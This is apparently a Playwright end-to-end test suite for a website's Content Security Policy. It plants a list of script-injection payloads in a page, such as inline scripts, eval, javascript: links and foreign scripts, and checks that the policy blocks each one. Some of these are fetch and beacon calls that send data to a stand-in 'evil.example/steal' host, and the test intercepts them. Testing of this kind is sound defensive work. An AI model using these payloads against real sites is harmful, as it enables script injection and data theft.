// The Content Security Policy: what it keeps from running, which would run without it, and that
// nothing of the site runs into it. every-page.spec.js visits every page: a violation is an error
// of the console there.
import { createServer } from 'node:http';

import { TRIAL, accountsSite, trial } from './accounts-site.js';
import { NOT_FOUND, UNUSED_PRELOAD, address, expect, feed, languageLink, live, message, open, test as base } from './fixtures.js';

const POLICY = 'content-security-policy';
const EVIL = 'https://evil.example';

const test = base.extend({
  /**
   * What the policy has refused, anywhere in the page's documents, and documents without one. From
   * the start of each test: one that asks for it only at its end would have heard of nothing.
   */
  refused: [
    async ({ page }, use) => {
      const refused = [];
      await page.exposeFunction('refused', (what) => refused.push(what));
      await page.addInitScript(() =>
        addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
          globalThis.refused(`${effectiveDirective} ${blockedURI} on ${location.pathname}`);
        }),
      );
      page.on('response', (answer) => {
        const own = answer.request().resourceType() === 'document' && !answer.request().redirectedTo();
        if (own && answer.status() < 300 && !answer.headers()[POLICY]) refused.push(`no policy: ${answer.url()}`);
      });
      await use(refused);
    },
    { auto: true },
  ],
});

const path = address('contact', 'en');
const HIT = 'globalThis.intruder = true';
const hit = (page) => page.evaluate(() => globalThis.intruder === true);
const planted = (page) => page.locator('#planted').count().then(Boolean);
const coloured = (selector) => (page) => page.locator(selector).first().evaluate((element) => getComputedStyle(element).color === 'rgb(1, 2, 3)');
const asked = (page, hits) => hits.length > 0;
const click = (page) => page.locator('#planted').evaluate((element) => element.click());

/**
 * What somebody might bring into a page: into its head, into its text, or, by way of a gap in a
 * script of the site, through what that script does. `worked` tells whether it had its way;
 * `by` what refuses it.
 */
const attacks = {
  'a script in the page': { text: `<script>${HIT}</script>`, worked: hit, by: /^script-src/ },
  'a handler in an attribute': { text: `<img src="/icon.svg" alt="" onload="${HIT}">`, worked: hit, by: /^script-src/ },
  'a link to a script': { text: `<a id="planted" href="javascript:void(${HIT})">x</a>`, act: click, worked: hit, by: /^(script-src|require-trusted)/ },
  'a script of another server': { text: `<script src="${EVIL}/x.js"></script>`, worked: hit, by: /^script-src/ },
  'a script in an address': { script: `import("data:text/javascript,${HIT}")`, worked: hit, by: /^script-src/ },
  'a script that a script writes': {
    script: `document.body.append(Object.assign(document.createElement('script'), { textContent: '${HIT}' }))`,
    worked: hit,
    by: /^(script-src|require-trusted)/,
  },
  eval: { script: `eval('${HIT}')`, worked: hit, by: /^(script-src|require-trusted)/ },
  'new Function': { script: `new Function('${HIT}')()`, worked: hit, by: /^(script-src|require-trusted)/ },
  'setTimeout of a text': { script: `setTimeout('${HIT}')`, worked: hit, by: /^(script-src|require-trusted)/ },
  innerHTML: {
    script: `const box = document.createElement('div'); document.body.append(box); box.innerHTML = '<b id="planted"></b>'`,
    worked: planted,
    by: /^require-trusted/,
  },
  'document.write': { script: `document.write('<b id="planted"></b>')`, inTime: true, worked: planted, by: /^require-trusted/ },
  'a worker of its own': {
    script: `new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))).onmessage = () => { ${HIT}; }`,
    worked: hit,
    by: /^(worker-src|require-trusted)/,
  },
  'a policy of its own for texts': { script: `trustedTypes.createPolicy('intruder', {}); ${HIT}`, worked: hit, by: /^trusted-types/ },
  'the site’s policy for texts, again': {
    // Once the site has made its own.
    script: `const again = () => (document.querySelector('[data-live]') ? (trustedTypes.createPolicy('feeds', {}), ${HIT}) : setTimeout(again, 20)); again()`,
    worked: hit,
    by: /^trusted-types/,
  },
  'another base of links': { head: `<base href="${EVIL}/">`, worked: (page) => page.evaluate((evil) => document.baseURI.startsWith(evil), EVIL), by: /^base-uri/ },
  'a style in the page': { text: '<style>main h1 { color: rgb(1, 2, 3) !important }</style>', worked: coloured('main h1'), by: /^style-src/ },
  'a style in an attribute': { text: '<p id="planted" style="color: rgb(1, 2, 3)">x</p>', worked: coloured('#planted'), by: /^style-src/ },
  'a style of another server': { head: `<link rel="stylesheet" href="${EVIL}/x.css">`, worked: asked, by: /^style-src/ },
  'a page of another server within the page': { text: `<iframe src="${EVIL}/page"></iframe>`, worked: asked, by: /^frame-src/ },
  'an object of another server': { text: `<object data="${EVIL}/object"></object>`, worked: asked, by: /^object-src/ },
  'a form to another server': { text: `<form action="${EVIL}/form"><button id="planted">x</button></form>`, act: click, worked: asked, by: /^form-action/ },
  'a message to another server': { script: `fetch('${EVIL}/steal', { mode: 'no-cors' })`, worked: asked, by: /^connect-src/ },
  'a beacon to another server': { script: `navigator.sendBeacon('${EVIL}/steal', 'x')`, worked: asked, by: /^connect-src/ },
};

/** Brings it into the page, with or without the policy. */
async function bring(page, { head = '', text = '', script, inTime, act }, policy, hits) {
  await page.unrouteAll();
  hits.length = 0;
  await page.route(`${EVIL}/**`, (route) => {
    hits.push(route.request().url());
    return route.fulfill({ contentType: 'text/javascript', body: HIT });
  });
  await page.route('**/gap.js', (route) => route.fulfill({ contentType: 'text/javascript', body: script }));
  const gap = script ? `<script src="/gap.js"${inTime ? '' : ' defer'}></script>` : '';
  await page.route(isSite, async (route) => {
    const answer = await route.fetch();
    // Beside what the program takes over: it would draw that anew.
    const html = (await answer.text()).replace('</head>', `${head}</head>`).replace('</body>', `${text}${gap}</body>`);
    await route.fulfill({ response: answer, headers: policy ? answer.headers() : without(answer, POLICY), body: html });
  });
  await page.goto(path);
  await act?.(page);
}

const isSite = (url) => url.pathname === path;

function without(answer, ...names) {
  const headers = { ...answer.headers() };
  for (const name of names) delete headers[name];
  return headers;
}

test.describe('without the policy it works, with it nothing happens:', () => {
  // Each of these is a problem that is brought about.
  test.beforeEach(({ problems }) => problems.allow(/./));

  for (const [name, attack] of Object.entries(attacks)) {
    test(name, async ({ page, refused }) => {
      const hits = [];
      await bring(page, attack, false, hits);
      await expect.poll(() => attack.worked(page, hits)).toBe(true);
      refused.length = 0;
      await bring(page, attack, true, hits);
      await expect.poll(() => refused).toContainEqual(expect.stringMatching(attack.by));
      expect(await attack.worked(page, hits)).toBe(false);
    });
  }

  /** Another site, of one page. */
  async function other(html, use) {
    const server = createServer((request, response) => response.writeHead(200, { 'content-type': 'text/html' }).end(`<!doctype html>${html}`));
    await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
    await use(`http://localhost:${server.address().port}/`);
    server.close();
  }

  test('the site in a frame of another', async ({ page, baseURL }) => {
    const site = new URL(path, baseURL).href;
    await other(`<iframe src="${site}"></iframe>`, async (url) => {
      const framed = () => page.frames().at(-1).url();
      await page.route(isSite, async (route) => {
        const answer = await route.fetch();
        await route.fulfill({ response: answer, headers: without(answer, POLICY) });
      });
      await page.goto(url);
      await expect.poll(framed).toBe(site);
      await page.unrouteAll();
      await page.goto(url);
      await expect.poll(framed).toBe('chrome-error://chromewebdata/');
    });
  });

  test('a hold of the site by who opens it', async ({ page, context, baseURL }) => {
    await other(`<script>globalThis.opened = open('${new URL(path, baseURL)}')</script>`, async (url) => {
      const held = async () => {
        const opened = context.waitForEvent('page');
        await page.goto(url);
        const popup = await opened;
        await live(popup);
        const closed = await page.evaluate(() => globalThis.opened.closed);
        await popup.close();
        return !closed;
      };
      await context.route(isSite, async (route) => {
        const answer = await route.fetch();
        await route.fulfill({ response: answer, headers: without(answer, POLICY, 'cross-origin-opener-policy') });
      });
      expect(await held()).toBe(true);
      await context.unrouteAll();
      expect(await held()).toBe(false);
    });
  });
});

test.describe('nothing is refused, and every document has the policy,', () => {
  const words = async (lang) => (await (await fetch(new URL(`/accounts/${lang}.json`, process.env.BASE_URL))).json()).words;
  const configure = (page, config) => page.route('**/config.json', (route) => route.fulfill({ json: config }));

  test.afterEach(({ refused }) => expect(refused).toEqual([]));

  test('while one searches', async ({ page }) => {
    await open(page, '/en/');
    await page.locator('#header-search').fill('valuation');
    await expect(page.getByRole('option').first()).toBeVisible();
    await page.keyboard.press('Control+k');
    await page.getByRole('dialog').locator('input').first().fill('contact');
    await expect(page.getByRole('dialog').getByRole('option').first()).toBeVisible();
    await page.keyboard.press('Escape');
    await page.goto(`${address('search', 'en')}?q=origin`);
    await live(page);
    await page.getByRole('button', { name: await message('en', 'search', 'search-more') }).click();
    await page.locator('.results [name=kind]').selectOption('news');
    await expect(page).toHaveURL(/kind=news/);
    await languageLink(page, 'fr').click();
    await expect(page).toHaveURL(new RegExp(`${address('search', 'fr')}\\?`));
    await expect(page.locator('.results__status')).toContainText('origin');
    await page.goto(`${address('search', 'fr')}?q=qwrtzp`);
    await expect(page.locator('.results__status')).toContainText('qwrtzp');
    await open(page, address('sitemap', 'fr'));
    await page.locator('#sitemap-filter').fill('origine');
    await expect(page.locator('main a:visible').first()).toBeVisible();
  });

  test('while one reads news, looks at highlights and shares', async ({ page }) => {
    await page.addInitScript(() => {
      navigator.share = async ({ url }) => { globalThis.shared = url; };
    });
    await open(page, '/en/');
    await page.getByRole('button', { name: await message('en', 'home', 'carousel-next') }).click();
    await expect(page.locator('.carousel__position')).toHaveAttribute('data-position', /^2 /);
    await open(page, address('media-newsroom', 'en'));
    await page.locator('.feed-list__more button').click();
    await expect(page.locator('.feed-list .news-line')).toHaveCount(20);
    await page.locator('.filters select[name=topic]').selectOption('origin');
    await expect(page).toHaveURL(/topic=origin/);
    await page.locator('.feed-list .news-line a').first().click();
    await expect(page).not.toHaveURL(/topic=origin/);
    await page.locator('[data-share]').click();
    await expect.poll(() => page.evaluate(() => globalThis.shared === location.href)).toBe(true);
    const [event] = (await feed('events-2023', 'en')).items;
    await open(page, new URL(event.url).pathname);
    const file = page.waitForEvent('download');
    await page.locator('a[download]').click();
    await (await file).path();
  });

  test('while one changes appearance and menus, at the door, and where there is no page', async ({ page, problems }) => {
    problems.expect(NOT_FOUND);
    await page.goto('/');
    await page.locator('a[data-language=fr]').first().click();
    await live(page);
    await page.locator('input[name=appearance][value=dark]').evaluate((input) => input.click());
    await expect(page.locator('html')).toHaveAttribute('data-appearance', 'dark');
    await page.locator('.menu__section summary').first().click();
    await page.setViewportSize({ width: 360, height: 740 });
    await page.locator('.header__menu-button').click();
    await page.keyboard.press('Escape');
    await page.goto('/fr/abuot/');
    expect(await live(page)).toBe('mounted');
    await page.goto('/fr/offline.html');
    await expect(page.locator('[data-again]')).toBeVisible();
    await page.locator('[data-again]').click();
    await page.waitForLoadState();
  });

  test('while one writes by the contact form, and translators look at messages', async ({ page, problems }) => {
    problems.allow(/\/contact-endpoint/, UNUSED_PRELOAD);
    await configure(page, { contactForm: '/contact-endpoint', translatorView: true });
    await open(page, `${address('contact', 'fr')}?l10n`);
    await page.locator('main h1').hover();
    await expect(page.locator('.translate dl')).toBeVisible();
    await page.goto(`${address('contact', 'fr')}?plain&pseudo`);
    await live(page);
    await page.locator('main form [name=name]').fill('Ann');
    await page.locator('main form [name=email]').fill('ann@example.org');
    await page.locator('main form [name=message]').fill('A question');
    await page.locator('main form select').selectOption({ index: 1 });
    const sent = page.waitForRequest('**/contact-endpoint');
    await page.route('**/contact-endpoint', (route) => route.fulfill({ headers: { [POLICY]: "default-src 'none'" }, contentType: 'text/html', body: '<!doctype html><title>Thanks</title>' }));
    await page.locator('main form button').click();
    await sent;
    await expect(page).toHaveTitle('Thanks');
  });

  // The site stays until the browser has left it: what a page still asks for is answered.
  test.extend({ site: accountsSite })('while one signs in, registers for a meeting, asks for access and signs out', async ({ page, site }) => {
    const own = await words('en');
    const userName = 'policy@trial.example';
    await trial(site, 'users', { userName, role: 'delegate' });
    await page.goto(site + address('faq', 'en'));
    await live(page);
    await page.locator(`.header__links a[href="${address('sign-in', 'en')}"]`).click();
    const panel = page.getByRole('dialog', { name: own.panel });
    await panel.getByLabel(own['user-name']).fill(userName);
    await panel.getByLabel(own.password, { exact: true }).fill(TRIAL.password);
    await panel.getByRole('button', { name: own['sign-in'] }).click();
    await page.locator('.account-menu summary').click();
    await page.locator('.account-menu a').first().click();
    const meeting = page.locator('#meeting-trial-one');
    await meeting.locator('summary').click();
    await meeting.getByLabel(own.position).fill('Attaché');
    await meeting.getByLabel(own.remote).check();
    await meeting.getByRole('button', { name: own.register }).click();
    await expect(meeting.getByText(own.registered)).toBeVisible();
    await page.locator('.account-menu summary').click();
    await page.locator('.account-menu').getByRole('button', { name: own['sign-out'] }).click();
    await expect(page.locator('.account-menu')).toHaveCount(0);
    for (const [id, button] of [['register', 'send-request'], ['reset-password', 'send-code']]) {
      await page.goto(site + address(id, 'en'));
      await page.locator('.account').getByRole('button', { name: own[button] }).click();
      await expect(page.locator('.form__summary:visible')).toBeFocused();
    }
  });
});
